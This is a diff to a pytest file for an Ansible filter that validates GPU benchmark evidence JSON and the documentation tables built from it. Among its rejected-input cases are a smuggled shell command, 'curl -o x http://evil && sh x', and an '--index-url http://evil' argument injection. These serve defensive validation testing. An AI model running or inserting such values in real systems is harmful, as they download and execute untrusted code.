@@ -34,6 +34,18 @@ COMPARED = {
     "high": 1.3,
     "verdict": "faster",
 }
+SCALED = {
+    "finished": "2026-11-24T10:00:00Z",
+    "scaling": [
+        {
+            "workers": 4,
+            "baseline": 1,
+            "candidate": 1.1,
+            "hoped": "3.1x by hand before",
+            "note": "no second worker was at work",
+        }
+    ],
+}
 EVIDENCE = {
     "host": "gpu-01",
     "result": "verified",
@@ -47,7 +59,7 @@ EVIDENCE = {
         {"name": "cuda", "title": "CUDA is available", "status": "not_run", "reason": "no <b>GPU</b> | here"},
     ],
     "benchmark": {
-        "documents": {"status": "measured", "comparisons": [COMPARED], "stand_in": "a stand-in server"},
+        "documents": {"status": "measured", "comparisons": [COMPARED], "stand_in": "a stand-in server", **SCALED},
         "kernels": {"status": "not_run", "reason": "no GPU", "comparisons": []},
     },
 }
@@ -127,6 +139,9 @@ def test_what_the_files_say(site):
     measured = texts["docs/technical/PARALLELIZATION_OPTIMIZATION_COMPLETE.md"]
     assert "| documents | 4 workers | 10 s | 8 s | 1.25x (1.20 to 1.30) | faster |" in measured
     assert "against a stand-in server" in measured
+    assert "No speed-up was measured." in guide and "What to expect" not in guide
+    assert "On gpu-01 (NVIDIA L4), measured: documents on 2026-11-24. Medians" in measured
+    assert "| 4 | 1.00x | 1.10x | 3.1x by hand before; no second worker was at work |" in measured
     assert "| server | all of it | | | | not run: playbooks/benchmark.yml has not been run |" in measured
 
 
@@ -149,6 +164,16 @@ def test_missing_files_are_made_only_when_asked(site):
         ({"result": "planned"}, "'planned', expected 'verified'"),
         ({"checks": [{"title": "PyTorch", "status": "failed"}]}, "failed checks .PyTorch."),
         ({"method": "none"}, "without FlashInfer"),
+        ({"method": "pypi; curl -o x http://evil && sh x"}, "expected a method .pypi, source, constrained"),
+        ({"method": "auto: auto: pypi"}, "expected a method"),
+        ({"plan": [{"name": "torch", "version": "2.4.1"}]}, "found torch 2.4.1 .* which no method may touch"),
+        ({"plan": [{"name": "TorchVision", "version": "0.19"}]}, "which no method may touch"),
+        ({"plan": ["flashinfer-python==0.3.1"]}, "is no evidence"),
+        (
+            {"benchmark": {"documents": {"comparisons": [{"name": "x", "verdict": "faster"}]}}},
+            "is no evidence.*baseline",
+        ),
+        ({"benchmark": {"documents": {"comparisons": [{**COMPARED, "baseline": {"median": None}}]}}}, "is no evidence"),
         ({"versions": {}}, "without FlashInfer"),
         ({"plan": [{"name": "--index-url http://evil", "version": "1"}]}, "expected a package with its version"),
         (
@@ -166,6 +191,60 @@ def test_evidence_that_bears_nothing_out_is_refused(change, told):
 def test_a_file_that_is_no_evidence_is_refused(text, told):
     with pytest.raises(AnsibleFilterError, match=told):
         documentable(text, "evidence.json")
+
+
+def measured(**levels) -> dict:
+    return documentable(json.dumps({**EVIDENCE, "benchmark": levels}), "evidence.json")
+
+
+def test_a_method_that_auto_found_is_the_one_to_give():
+    assert (
+        documentable(json.dumps({**EVIDENCE, "method": "auto: constrained"}), "evidence.json")["method"]
+        == "constrained"
+    )
+
+
+@pytest.mark.parametrize(
+    ("level", "told"),
+    [
+        ({"status": "failed", "reason": "it broke", "comparisons": []}, ["failed: it broke"]),
+        ({"status": "not_run", "reason": "no GPU", "comparisons": []}, ["not run: no GPU"]),
+        (
+            {"status": "failed", "comparisons": [COMPARED, {"name": "x", "status": "failed", "reason": "a page"}]},
+            ["failed: a page"],
+        ),
+        (
+            {"status": "measured", "comparisons": [{"name": "x", "reason": "no such kernel"}]},
+            ["not run: no such kernel"],
+        ),
+        ({"status": "failed", "reason": "a wrong result", "comparisons": [COMPARED]}, ["failed: a wrong result"]),
+    ],
+)
+def test_what_failed_is_not_told_as_not_run(level, told):
+    rows = [row for row in measured(kernels=level)["rows"] if row["level"] == "kernels"]
+    assert [row["text"] for row in rows if "text" in row] == told
+
+
+LEVEL = {"status": "measured", "comparisons": [COMPARED], "finished": "2026-11-24T01:02:03Z"}
+
+
+def test_the_date_is_that_of_each_level():
+    waiting = {"status": "not_run", "reason": "no GPU", "finished": "2026-11-24T02:02:03Z"}
+    kernels = {**LEVEL, "finished": "2026-11-25T01:02:03Z"}
+    assert (
+        measured(documents=LEVEL, server=waiting, kernels=kernels)["when"]
+        == "documents on 2026-11-24, kernels on 2026-11-25"
+    )
+    assert measured(documents={**LEVEL, "finished": None})["when"] == ""
+
+
+@pytest.mark.parametrize(
+    ("changes", "counts"),
+    [({}, True), ({"stand_in": "a stand-in"}, False), ({"server": "http://h/v1"}, False), ({"comparisons": []}, False)]
+    + [({"comparisons": [{**COMPARED, "verdict": "too few pairs", "low": None}]}, False)],
+)
+def test_only_figures_of_the_environment_itself_are_pointed_to(changes, counts):
+    assert measured(documents={**LEVEL, **changes})["measured"] is counts
 
 
 def test_without_evidence_nothing_is_touched(site):
